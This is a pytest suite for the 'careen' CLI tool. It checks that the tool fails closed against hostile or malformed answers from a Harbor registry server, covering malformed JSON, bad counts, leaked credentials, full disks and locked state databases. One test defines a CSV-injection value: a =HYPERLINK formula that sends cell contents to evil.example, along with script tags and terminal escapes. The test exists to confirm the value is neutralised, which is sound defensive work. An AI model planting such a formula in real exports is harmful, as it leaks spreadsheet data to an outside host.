"""Issue 18: fail closed against a broken or hostile Harbor, one row at a time.

Each test runs the CLI in-process against a small server of its own
(:class:`.small_harbor.SmallHarbor`) that sends exactly one bad answer. Exit 3 is "a service
could not be reached, or answered something that is not Harbor's answer": never a smaller
fleet judged clean. The resource rows (5-8) are in ``test_bounded.py``.
"""

from __future__ import annotations

import errno
import json
import os
import sqlite3
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from careen.errors import ExitCode
from careen.state.store import StateBusyError, StateStore

from .conftest import Careen, CliResult, OpenedHarbor
from .small_harbor import V2, SmallHarbor, artifact, fleet
from .support import Answer, free_port, loopback_server, time_bound

ARTIFACTS = f"{V2}/projects/library/repositories/app/artifacts"


@pytest.fixture
def url_of() -> Iterator[Any]:
    """``url_of(harbor)``: the URL of ``harbor`` served for the rest of the test."""
    stack: list[Any] = []

    def start(harbor: SmallHarbor) -> str:
        manager = loopback_server(harbor)
        server = manager.__enter__()
        stack.append(manager)
        return server.url

    yield start
    for manager in reversed(stack):
        manager.__exit__(None, None, None)


def vulnerable(careen: Careen, url: str, *args: str) -> CliResult:
    return careen("vulnerable", "-o", "-", "--harbor-url", url, *args)


# -- row 1: a listing that is not a JSON array -------------------------------------------------


@pytest.mark.parametrize("body", [b"", b"null", b"{}", b'"[]"'],
                         ids=["empty", "null", "object", "string"])
def test_row1_a_listing_that_is_not_an_array_is_exit_3_naming_the_url(
        careen: Careen, url_of: Any, instant_retries: OpenedHarbor, body: bytes) -> None:
    """NOTES section 1: Harbor sends ``[]`` for an empty list, never an empty body or
    ``null``; here ``library/app`` claims ``artifact_count`` 1 and its listing is ``body``."""
    harbor = SmallHarbor({"library/app": [artifact("library/app", 1, summary={"High": 4})]},
                         hook=lambda path: Answer(200, body, (("Content-Type",
                                                               "application/json"),))
                         if path.startswith(ARTIFACTS) else None)
    result = vulnerable(careen, url_of(harbor))
    assert result.code == ExitCode.UNREACHABLE, result.err
    assert ARTIFACTS in result.error_line
    assert "a listing must be a JSON array" in result.error_line
    assert result.out == ""
    assert "break the policy" not in result.err


# -- rows 2 and 3: counts that cannot be read ------------------------------------------------


UNREADABLE = [("string", '"7"'), ("null", "null"), ("fraction", "1.5"), ("nan", "NaN"),
              ("list", "[]"), ("object", "{}"), ("boolean", "true"), ("negative", "-3")]


@pytest.mark.parametrize(("name", "value"), UNREADABLE, ids=[n for n, _ in UNREADABLE])
def test_rows2_3_unreadable_counts_are_reported_never_clean_and_the_crawl_goes_on(
        careen: Careen, url_of: Any, monkeypatch: pytest.MonkeyPatch, name: str,
        value: str) -> None:
    """``summary.summary`` (NOTES section 6.4) with one count that is no whole number
    >= 0. That artifact is judged like a failed scan (reported, never passing); the other
    repositories are still read and judged."""
    hostile = artifact("library/app", 1, summary={"Critical": 0})
    text = json.dumps(hostile).replace('"Critical": 0', f'"High": {value}')
    hostile = json.loads(text)  # NaN parses; the others are what they say
    repositories = {"library/app": [hostile], **fleet(3, summary={"Low": 1})}
    url = url_of(SmallHarbor(repositories))
    result = vulnerable(careen, url, "--rule", "high > 0")
    # As an unscanned image under policy.unscanned = "report": told, not listed, no crash.
    assert result.code == ExitCode.OK, result.err
    assert "Harbor's scan summary is unreadable" in result.err
    assert "library/app@sha256:" in result.err
    assert "scan failed, not judged: library/app:1.1" in result.err
    # The three other repositories were read and pass; the hostile one is not among them.
    assert "4 images judged by 'high > 0': 0 break the policy, 3 pass" in result.err
    # And as an unscanned image under "select": listed for a rebuild.
    monkeypatch.setenv("CAREEN_POLICY_UNSCANNED", "select")
    result = vulnerable(careen, url, "--rule", "high > 0")
    assert "library/app:1.1" in result.out and "app-0" not in result.out


def test_rows2_3_images_shows_an_unreadable_scan_as_unreadable(
        careen: Careen, url_of: Any) -> None:
    hostile = artifact("library/app", 1, summary={"High": -3, "Low": 1})
    url = url_of(SmallHarbor({"library/app": [hostile]}))
    result = careen("images", "-f", "json", "--harbor-url", url)
    assert result.code == ExitCode.OK, result.err
    [row] = json.loads(result.out)
    assert row["status"] == "unreadable"
    assert row["high"] is None and row["critical"] is None


# -- row 4: X-Total-Count understated --------------------------------------------------------


def test_row4_an_understated_total_does_not_end_the_listing(
        careen: Careen, url_of: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Three pages of repositories, each listing page claiming ``X-Total-Count: 1``: a full
    page means there may be more, so pages are read until a short one. Pages of 2 (``[harbor]
    page_size``) keep it to 6 repositories instead of 300 at the default 100."""
    monkeypatch.setenv("CAREEN_HARBOR_PAGE_SIZE", "2")
    harbor = SmallHarbor(fleet(6), total=1)
    result = careen("images", "-f", "json", "--harbor-url", url_of(harbor))
    assert result.code == ExitCode.OK, result.err
    assert len(json.loads(result.out)) == 6
    repository_pages = [p for p in harbor.asked
                        if p.startswith(f"{V2}/projects/library/repositories?")]
    assert len(repository_pages) == 4  # 2, 2, 2, then the empty page 4
    assert all("page_size=2" in p for p in repository_pages)


# -- row 9: deep nesting ------------------------------------------------------------------------


def test_row9_deeply_nested_json_is_not_json_exit_3(
        careen: Careen, url_of: Any, instant_retries: OpenedHarbor) -> None:
    harbor = SmallHarbor(fleet(1), hook=lambda path: Answer(200, b"[" * 200_000, (
        ("Content-Type", "application/json"),)) if "/projects?" in path else None)
    result = vulnerable(careen, url_of(harbor))
    assert result.code == ExitCode.UNREACHABLE, result.err
    assert "the answer is not JSON" in result.error_line
    assert "Traceback" not in result.err and "RecursionError" not in result.err


# -- row 10: --debug keeps the exit code -------------------------------------------------------


def test_row10_debug_prints_the_traceback_and_keeps_exit_3(
        careen: Careen, instant_retries: OpenedHarbor) -> None:
    result = careen("--debug", "vulnerable", "-o", "-", "--harbor-url",
                    f"http://127.0.0.1:{free_port()}")
    assert result.code == ExitCode.UNREACHABLE
    assert "Traceback (most recent call last)" in result.err
    assert "connection refused" in result.error_line


def test_row10_debug_keeps_exit_2_for_bad_config(careen: Careen, tmp_path: Path) -> None:
    (tmp_path / "careen.toml").write_text('[harbor]\nurll = "https://h.example.com"\n')
    result = careen("--debug", "vulnerable", "-o", "-")
    assert result.code == ExitCode.USAGE
    assert "Traceback (most recent call last)" in result.err
    assert "unknown key 'urll'" in result.err


def test_row10_debug_keeps_exit_4_for_a_bug(careen: Careen, monkeypatch: pytest.MonkeyPatch,
                                            url_of: Any) -> None:
    from careen.cli.commands import vulnerable_cmd

    async def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("simulated bug")

    monkeypatch.setattr(vulnerable_cmd, "find_vulnerable", broken)
    result = careen("--debug", "vulnerable", "-o", "-", "--harbor-url",
                    url_of(SmallHarbor(fleet(1))))
    assert result.code == ExitCode.INTERNAL
    assert "Traceback (most recent call last)" in result.err
    assert "RuntimeError: simulated bug" in result.err


# -- row 11: formulas and terminal escapes from the server ------------------------------------

HOSTILE_SCANNER = '=HYPERLINK("http://evil.example/?x="&A1,"click")<script>\x1b[2J\x07'


def test_row11_csv_cells_are_neutralised_and_terminals_get_no_escapes(
        careen: Careen, url_of: Any) -> None:
    hostile = artifact("library/app", 1, summary={"High": 1}, scanner=HOSTILE_SCANNER)
    url = url_of(SmallHarbor({"library/app": [hostile]}))
    result = careen("images", "-f", "csv", "--harbor-url", url)
    assert result.code == ExitCode.OK, result.err
    header, row = result.out.splitlines()
    cells = dict(zip(header.split(","), next(iter(__import__("csv").reader([row]))),
                     strict=True))
    assert cells["scanner"].startswith("'=HYPERLINK(")
    assert not any(ord(c) < 32 or ord(c) == 127 for c in result.out.replace("\n", ""))
    table = careen("images", "--harbor-url", url)
    assert "\x1b" not in table.out and "\x07" not in table.out


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_row11_every_formula_start_is_neutralised(text: str) -> None:
    from careen.textsafe import csv_cell

    cell = csv_cell(text)
    assert isinstance(cell, str) and cell.startswith("'")
    assert csv_cell(-3) == -3  # a number is not a formula


# -- row 12: userinfo in registry.server --------------------------------------------------------


@pytest.mark.parametrize("server", ["admin:PW-s3cret@host:5000",
                                    "https://admin:PW-s3cret@host:5000/v2"])
def test_row12_registry_server_with_userinfo_is_shown_without_it(
        careen: Careen, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, server: str) -> None:
    (tmp_path / "careen.toml").write_text(f'[registry]\nserver = "{server}"\n')
    result = careen("vulnerable", "-o", "-", "--harbor-url", "http://127.0.0.1:1")
    assert result.code == ExitCode.USAGE
    assert "registry.server" in result.err and "'host:5000'" in result.err
    assert "PW-s3cret" not in result.err and "admin" not in result.err
    monkeypatch.setenv("CAREEN_REGISTRY_SERVER", server)
    (tmp_path / "careen.toml").unlink()
    result = careen("vulnerable", "-o", "-", "--harbor-url", "http://127.0.0.1:1")
    assert result.code == ExitCode.USAGE
    assert "PW-s3cret" not in result.err and "admin" not in result.err


# -- row 13: password_file that is no regular small file ------------------------------------


def test_row13_password_file_dev_zero_is_exit_2(careen: Careen, tmp_path: Path) -> None:
    (tmp_path / "careen.toml").write_text(
        '[harbor]\nurl = "http://127.0.0.1:1"\nuser = "admin"\n'
        'password_file = "/dev/zero"\n')
    with time_bound(20):
        result = careen("vulnerable", "-o", "-")
    assert result.code == ExitCode.USAGE
    assert "is not a regular file" in result.error_line
    assert "harbor.password_file" in result.error_line


def test_row13_password_file_fifo_is_exit_2_without_waiting_for_a_writer(
        careen: Careen, tmp_path: Path) -> None:
    fifo = tmp_path / "password.fifo"
    os.mkfifo(fifo)
    (tmp_path / "careen.toml").write_text(
        f'[harbor]\nurl = "http://127.0.0.1:1"\nuser = "admin"\npassword_file = "{fifo}"\n')
    with time_bound(20):
        result = careen("vulnerable", "-o", "-")
    assert result.code == ExitCode.USAGE
    assert "is not a regular file" in result.error_line


def test_row13_password_file_over_64_kib_is_exit_2(
        careen: Careen, tmp_path: Path, instant_retries: OpenedHarbor) -> None:
    big = tmp_path / "password.txt"
    big.write_bytes(b"x" * (64 * 1024 + 1))
    (tmp_path / "careen.toml").write_text(
        f'[harbor]\nurl = "http://127.0.0.1:1"\nuser = "admin"\npassword_file = "{big}"\n')
    result = careen("vulnerable", "-o", "-")
    assert result.code == ExitCode.USAGE
    assert "is larger than 64 KiB" in result.error_line
    big.write_bytes(b"x" * (64 * 1024))  # the bound itself is accepted
    result = careen("vulnerable", "-o", "-")
    assert result.code == ExitCode.UNREACHABLE  # got past the config, to Harbor
    [settings] = instant_retries.settings  # (whose retries were recorded, not slept)
    assert settings.password is not None
    assert settings.password.get_secret_value() == "x" * (64 * 1024)


# -- row 14: a full disk ------------------------------------------------------------------------


def test_row14_reports_on_a_full_disk_exit_2_without_a_traceback(
        careen: Careen, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """``careen run`` against the sample fleet with a builder that pushes without building;
    every fsync under the reports folder fails with ENOSPC, as a full disk does."""
    from careen import assemble
    from careen.sim.harbor import Fleet, SimOptions, SimulatorServer
    from tests.test_nightly import PushingBuilder

    samples = Path(__file__).resolve().parents[2] / "samples"
    reports = tmp_path / "reports"
    real_fsync = os.fsync

    def full_disk(fd: int) -> None:
        if os.readlink(f"/proc/self/fd/{fd}").startswith(str(reports)):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_fsync(fd)

    with SimulatorServer(Fleet.from_file(samples / "fleet.yaml"),
                         SimOptions(scan_delay=0.0)) as harbor:
        monkeypatch.setattr(assemble, "logged_in_builder",
                            lambda config: _yielding(PushingBuilder(harbor)))
        for name, value in {"CAREEN_HARBOR_URL": harbor.url, "CAREEN_HARBOR_USER": "admin",
                            "CAREEN_HARBOR_PASSWORD": "Harbor12345",
                            "CAREEN_REGISTRY_SERVER": "registry.test",
                            "CAREEN_TREE_ROOT": str(samples / "tree")}.items():
            monkeypatch.setenv(name, value)
        monkeypatch.setattr(os, "fsync", full_disk)
        result = careen("-q", "run", "--state", str(tmp_path / "state.sqlite"),
                        "--reports-dir", str(reports))
    assert result.code == ExitCode.USAGE, result.err
    assert result.error_line == (f"careen: error: cannot write {reports}/careen.json: "
                                 "no space left on device")
    assert "Traceback" not in result.err


def _yielding(builder: Any) -> Any:
    from contextlib import contextmanager

    @contextmanager
    def opened() -> Iterator[Any]:
        yield builder
    return opened()


def test_row14_a_full_disk_met_in_a_task_group_is_one_line_exit_2(
        careen: Careen, monkeypatch: pytest.MonkeyPatch, url_of: Any) -> None:
    """Whoever writes (a build log inside the executor's task group), ENOSPC is told as
    one line: the path and "no space left on device"."""
    from careen.cli.commands import vulnerable_cmd

    async def logs_on_full_disk(*args: object, **kwargs: object) -> None:
        error = OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), "reports/logs/app.log")
        raise ExceptionGroup("unhandled errors in a TaskGroup", [error])

    monkeypatch.setattr(vulnerable_cmd, "find_vulnerable", logs_on_full_disk)
    result = vulnerable(careen, url_of(SmallHarbor(fleet(1))))
    assert result.code == ExitCode.USAGE
    assert result.error_line == ("careen: error: cannot write reports/logs/app.log: "
                                 "no space left on device")
    assert "Traceback" not in result.err and "internal error" not in result.err


# -- row 15: the state database held by another process ---------------------------------------

HOLDER = textwrap.dedent("""
    import sqlite3, sys, time
    from careen.state.store import StateStore
    path, mode = sys.argv[1], sys.argv[2]
    if mode == "run":
        store = StateStore.open(path)
        lock = store.run_lock()
        lock.__enter__()
    db = sqlite3.connect(path, isolation_level=None)
    db.execute("PRAGMA journal_mode = WAL")
    db.execute("BEGIN IMMEDIATE")
    print("holding", flush=True)
    time.sleep(60)
""")


@pytest.fixture
def holder(tmp_path: Path) -> Iterator[Any]:
    started: list[subprocess.Popen[str]] = []

    def hold(path: Path, mode: str) -> subprocess.Popen[str]:
        process = subprocess.Popen(
            [sys.executable, "-c", HOLDER, str(path), mode], stdout=subprocess.PIPE,
            text=True, env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")})
        started.append(process)
        assert process.stdout is not None and process.stdout.readline() == "holding\n"
        return process

    yield hold
    for process in started:
        process.kill()
        process.wait()


def test_row15_a_database_held_by_a_named_run_says_which(holder: Any, tmp_path: Path) -> None:
    state = tmp_path / "state.sqlite"
    StateStore.open(state).close()
    process = holder(state, "run")
    # The holder has the lock before this starts: any busy timeout sees it held throughout.
    with pytest.raises(StateBusyError) as caught, \
            StateStore.open(state, busy_timeout=0.05) as store:
        store.begin_run("nightly")
    text = f"{caught.value}\n{caught.value.hint}"
    assert f"careen run pid {process.pid}" in text and str(state) in text
    assert "aside" not in text and "move" not in text
    assert caught.value.exit_code == ExitCode.USAGE


def test_row15_a_fresh_database_held_by_another_process_says_so(
        holder: Any, tmp_path: Path) -> None:
    state = tmp_path / "state.sqlite"
    holder(state, "plain")
    with pytest.raises(StateBusyError) as caught:
        StateStore.open(state, busy_timeout=0.05)
    text = f"{caught.value}\n{caught.value.hint}"
    assert "another process holds the database" in text
    assert "aside" not in text and "move" not in text


def test_row15_not_a_database_still_advises_another_file(tmp_path: Path) -> None:
    state = tmp_path / "state.sqlite"
    state.write_bytes(b"this is no database" * 100)
    with pytest.raises(Exception) as caught:
        StateStore.open(state, busy_timeout=0.2)
    assert not isinstance(caught.value, StateBusyError)
    assert not isinstance(caught.value, sqlite3.Error)


# -- row 16: the registry down at login ---------------------------------------------------------

#: What buildah 1.x says when nothing listens on the registry's port (captured on the lab).
BUILDAH_REFUSED = ('Error: authenticating creds for "127.0.0.1:1": pinging container registry '
                   '127.0.0.1:1: Get "https://127.0.0.1:1/v2/": dial tcp 127.0.0.1:1: '
                   'connect: connection refused')
#: What it says when the registry answers 401 to the credentials.
BUILDAH_REJECTED = ('Error: logging into "127.0.0.1:5000": invalid username/password')


def test_row16_a_refused_login_says_unreachable_not_the_password() -> None:
    from careen.builders.credentials import LoginResult

    down = LoginResult("127.0.0.1:1", ok=False, auth_rejected=False,
                       log_tail=(BUILDAH_REFUSED,), unreachable=True)
    error = down.failure()
    assert str(error).startswith("registry at 127.0.0.1:1: unreachable")
    assert error.exit_code == ExitCode.UNREACHABLE
    assert error.hint is not None and "PASSWORD" not in error.hint
    rejected = LoginResult("127.0.0.1:5000", ok=False, auth_rejected=True,
                           log_tail=(BUILDAH_REJECTED,))
    assert "login rejected" in str(rejected.failure())
    assert "CAREEN_REGISTRY_PASSWORD" in (rejected.failure().hint or "")


@pytest.mark.lab
def test_row16_buildah_login_to_a_registry_that_is_down(tmp_path: Path) -> None:
    from pydantic import SecretStr

    from careen.builders.credentials import LoginTool, RegistryLogin, private_auth

    registry = f"127.0.0.1:{free_port()}"
    with private_auth(tmp_path) as auth:
        result = auth.login(RegistryLogin(registry, "careen", SecretStr("not-a-secret"),
                                          insecure=True), tool=LoginTool.BUILDAH)
    assert not result.ok and result.unreachable and not result.auth_rejected
    error = result.failure()
    assert str(error).startswith(f"registry at {registry}: unreachable")
    assert "not-a-secret" not in str(error)
